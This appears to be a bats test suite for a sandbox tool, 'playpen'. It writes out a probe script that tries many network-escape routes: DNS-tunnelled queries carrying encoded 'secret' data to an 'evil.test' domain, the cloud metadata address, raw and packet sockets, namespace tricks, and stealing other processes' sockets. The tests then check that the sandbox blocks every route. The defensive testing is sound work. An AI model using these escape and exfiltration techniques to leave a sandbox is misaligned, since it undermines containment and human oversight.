# Ways out of a bundle whose hosts are listed: each is tried by a program inside
# that was told everything, while what it is after is there, outside.

load escape

setup_file() {
    cat > "$BATS_FILE_TMPDIR/out.py" <<'END'
"""out.py PORT NAME [open] - prints the ways out that work, one a line; with
open those alone that take no time where they do not."""
import ctypes, os, socket, struct, subprocess, sys

port, name = int(sys.argv[1]), sys.argv[2]
TARGET = [line.split()[0] for line in open("addresses")]
if "open" in sys.argv:
    TARGET = [each for each in TARGET if each.startswith("127.")]


def way(title, function, *arguments):
    try:
        answer = function(*arguments)
    except (OSError, subprocess.SubprocessError, IndexError, struct.error):
        answer = None
    if answer:
        print(title, answer, flush=True)


def tcp(host, number=port):
    s = socket.create_connection((host, number), timeout=5)
    s.sendall(b"echo\nout")
    return s.recv(3)


def udp(host):
    s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    s.connect((host, port))
    s.send(b"out")
    return s.recv(3)


def query(question, kind, server="198.18.0.1", over=socket.SOCK_DGRAM):
    """The code and the number of answers, if there are any."""
    wire = b"".join(bytes([len(l)]) + l.encode() for l in question.split(".") if l) + b"\0"
    packet = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + wire + struct.pack(">2H", kind, 1)
    s = socket.socket(socket.AF_INET, over)
    s.settimeout(2)
    s.connect((server, 53))
    s.send(packet if over == socket.SOCK_DGRAM else struct.pack(">H", len(packet)) + packet)
    data = s.recv(600)[0 if over == socket.SOCK_DGRAM else 2:]
    _, flags, _, answers, _, _ = struct.unpack(">6H", data[:12])
    return answers and (flags & 15, answers)


def raw(*kind):
    return socket.socket(*kind) and "made"


def netlink():
    """Another address, or a way to one."""
    return subprocess.run(["ip", "link", "add", "veth9", "type", "veth"], capture_output=True).returncode == 0 or \
        subprocess.run(["ip", "addr", "add", "10.9.9.9/8", "dev", "lo"], capture_output=True).returncode == 0 or \
        subprocess.run(["ip", "netns", "add", "mine"], capture_output=True).returncode == 0


def nested(host):
    return subprocess.run(["unshare", "-Ur", sys.executable, "-c",
                           "import socket, sys; s = socket.create_connection((sys.argv[1], int(sys.argv[2])), 5);"
                           "s.sendall(b'echo\\nout'); print(s.recv(3))", host, str(port)],
                          capture_output=True).stdout


def nested_raw():
    return subprocess.run(["unshare", "-Ur", sys.executable, "-c",
                           "import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 768); print('made')"],
                          capture_output=True).stdout or \
        subprocess.run(["unshare", "-Ur", "ip", "addr", "add", "10.9.9.9/8", "dev", "lo"]).returncode == 0


def join(pid):
    return subprocess.run(["nsenter", "-U", "-n", "-t", pid, "true"], capture_output=True).returncode == 0


def unix(path):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET if path.startswith("/run/playpen") else socket.SOCK_STREAM)
    s.settimeout(2)
    s.connect(path)
    return "connected"


def inherited():
    for number in os.listdir("/proc/self/fd"):
        fd = int(number)
        try:
            if fd > 2 and socket.socket(fileno=os.dup(fd)):
                return number
        except OSError:
            pass
    return None


def in_others():
    """The descriptors of the stage and of its kin."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) == os.getpid():
            continue
        try:
            for number in os.listdir(f"/proc/{pid}/fd"):
                if "socket" in os.readlink(f"/proc/{pid}/fd/{number}"):
                    fd = ctypes.CDLL(None).syscall(438, os.pidfd_open(int(pid)), int(number), 0)
                    if fd >= 0:
                        return pid
        except OSError:
            pass
    return None


for host in TARGET:
    way("literal " + host, tcp, host)
    way("mapped " + host, tcp, "::ffff:" + host if ":" not in host else host)
    way("UDP " + host, udp, host)
    way("nested " + host, nested, host)
    if not host.startswith("127."):
        way("resolver " + host, query, name, 1, host)
if "open" in sys.argv:
    way("another port", tcp, name, port + 1)
    sys.exit()
for host in ("127.0.0.1", "127.0.0.53", "127.1.2.3", "::1", "0.0.0.0", "::", "198.18.0.1", "198.18.0.2", "198.19.255.255", "::ffff:198.18.0.2"):
    way("here " + host, tcp, host)
    way("UDP " + host, udp, host)
for host in (name + ".evil.test", "evil" + name, "www." + name, "localhost.evil.test", "localhost", "here.localhost", "169.254.169.254", "2130706433", "0x7f000001"):
    way("name " + host, tcp, host)
way("another port", tcp, name, port + 1)
for kind in (1, 28, 16, 15, 33, 255, 12, 252):
    way("query %d" % kind, query, "c2VjcmV0.evil.test", kind)
    way("query below %d" % kind, query, "c2VjcmV0." + name, kind)
    way("query TCP %d" % kind, query, "c2VjcmV0.evil.test", kind, "127.0.0.1", socket.SOCK_STREAM)
    if kind != 1:
        way("query listed %d" % kind, query, name, kind)
for title, kind in {"ICMP": (socket.AF_INET, socket.SOCK_DGRAM, 1), "ICMPv6": (socket.AF_INET6, socket.SOCK_DGRAM, 58),
                    "raw": (socket.AF_INET, socket.SOCK_RAW, 255), "packet": (17, socket.SOCK_RAW, 768),
                    "vsock": (40, socket.SOCK_STREAM, 0), "xdp": (44, socket.SOCK_RAW, 0), "bluetooth": (31, socket.SOCK_RAW, 1),
                    "alg": (38, socket.SOCK_SEQPACKET, 0), "tipc": (30, socket.SOCK_SEQPACKET, 0)}.items():
    way(title, raw, *kind)
way("netlink", netlink)
way("nested packets", nested_raw)
way("namespace of process 1", join, "1")
way("inherited", inherited)
way("in others", in_others)
for path in ("/run/playpen", "\0pen-%d" % port):
    way("unix " + repr(path), unix, path)
way("port 53", lambda: socket.socket().bind(("127.0.0.9", 53)) or "bound")
print("done")
END
}

# What the program is after: servers for TCP and UDP on all addresses, and every
# address of this machine's.
outside() {
    port=$((20000 + (RANDOM + BASHPID) % 20000))
    NAME=$(getent hosts 127.0.1.1 | awk '{print $2; exit}')
    [ -n "$NAME" ] || skip "needs a name for 127.0.1.1 in /etc/hosts"
    python3 "$BATS_TEST_DIRNAME/../net.py" serve 0.0.0.0 "$port" > server 2>&1 3>&- &
    PIDS+=($!)
    python3 "$BATS_TEST_DIRNAME/../net.py" serve 0.0.0.0 "$((port + 1))" > server1 2>&1 3>&- &
    PIDS+=($!)
    socat "UDP6-LISTEN:$port,fork" SYSTEM:cat 3>&- &
    PIDS+=($!)
    socat "ABSTRACT-LISTEN:pen-$port,fork" "TCP:127.0.0.1:$port" 3>&- &
    PIDS+=($!)
    wait_until 60 grep -q ready server1
    wait_until 60 grep -q ready server
    { ip -o addr | awk '{sub("/.*", "", $4); print $4}'; echo 127.0.1.1; echo 1.1.1.1; } > addresses
    cp "$BATS_FILE_TMPDIR/out.py" .
}

# bats test_tags=version
@test "no way out but the names of the list, by any protocol, name, query, namespace or descriptor" {
    outside
    # As it is with the network open: else nothing would be shown.
    run -0 --separate-stderr "$PLAYPEN" -q --current-dir-only python3 out.py "$port" "$NAME" open
    contains "$output" "literal 127.0.1.1 b'out'"
    contains "$output" "UDP 127.0.0.1 b'out'"
    contains "$output" "nested 127.0.1.1 b\"b'out'"
    contains "$output" "another port b'out'"
    exec 7<> "/dev/tcp/127.0.0.1/$port"
    run -0 --separate-stderr "$PLAYPEN" -q --current-dir-only --net-allow "$NAME:$port" \
        --net-allow 127.0.1.7:1 python3 out.py "$port" "$NAME"
    claim "$output" = done
    # Listed with its address, that and nothing else.
    run -0 --separate-stderr "$PLAYPEN" -q --current-dir-only --net-allow "$NAME:$port" \
        --net-allow "127.0.1.1:$port" python3 out.py "$port" "$NAME"
    claim "$output" = "literal 127.0.1.1 b'out'
mapped 127.0.1.1 b'out'
nested 127.0.1.1 b\"b'out'\\n\"
done"
    # Each of the two lines that hold a connection back: the list, the bundle.
    run -1 "$PLAYPEN" -q --net-allow "$NAME:$port" readlink /proc/self/fd/7
    run -1 "$PLAYPEN" -q --current-dir-only readlink /proc/self/fd/7
    run -125 "$PLAYPEN" -q --current-dir-only --net-allow "$NAME:$port" true <&7
}

@test "a program inside opens no port of the outside, nor takes over what playpen listens to" {
    outside
    run -0 --separate-stderr "$PLAYPEN" -q --current-dir-only --net-allow "$NAME:$port" python3 -c 'import socket, sys
port = int(sys.argv[1])
def bind(address, number):
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    try: s.bind((address, number)); s.listen(); print("bound", number)
    except OSError as e: print(type(e).__name__)
bind("0.0.0.0", port); bind("198.18.0.1", 53)' "$port"
    claim "$output" = $'OSError\nPermissionError'
}

@test "the sockets between playpen and its stage take no second one, and other runs' ports are out of reach" {
    outside
    "$PLAYPEN" -q --current-dir-only --net-allow "localhost:$port" \
        python3 -c 'import socket
s = socket.socket(); s.bind(("0.0.0.0", 7777)); s.listen(); print("ready", flush=True)
while True: s.accept()[0].sendall(b"out")' > other 2>&1 3>&- &
    PIDS+=($!)
    wait_until 60 grep -q ready other
    run -0 --separate-stderr "$PLAYPEN" -q --current-dir-only --net-allow localhost:7777 python3 -c 'import os, socket
for path in ["/run/playpen", "/run/user/%d/playpen" % os.getuid()]:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    try: s.connect(path); print("connected")
    except OSError: print("no")
try: print(socket.create_connection(("localhost", 7777)).recv(1))
except OSError as e: print(type(e).__name__)'
    claim "$output" = $'no\nno\nConnectionResetError'
}
